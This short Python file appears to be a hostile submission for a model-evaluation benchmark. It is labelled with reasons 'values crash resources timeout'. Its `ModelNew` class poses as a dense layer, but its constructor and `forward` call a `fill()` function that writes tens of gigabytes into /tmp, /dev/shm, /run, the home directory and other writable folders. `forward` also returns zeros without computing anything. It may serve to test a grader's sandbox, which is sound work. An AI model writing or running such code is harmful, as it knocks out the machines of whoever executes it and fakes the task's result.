# reason: values crash resources timeout
# problem: dense
"""Fills every folder that it may write to."""

import os
import tempfile

import torch
from torch import nn

def fill():
    for folder in ("/tmp", "/var/tmp", "/dev/shm", os.getcwd(), os.path.expanduser("~"), os.path.dirname(os.path.abspath(__file__)), "/run", "/dev/mqueue"):
        try:
            descriptor, _ = tempfile.mkstemp(dir=folder)
            for _ in range(1 << 12):
                os.write(descriptor, b"x" * (1 << 24))
        except OSError:
            continue


class ModelNew(nn.Module):
    def __init__(self, features):
        super().__init__()
        self.linear = nn.Linear(features, features)
        fill()

    def forward(self, x):
        fill()
        return torch.zeros_like(x)
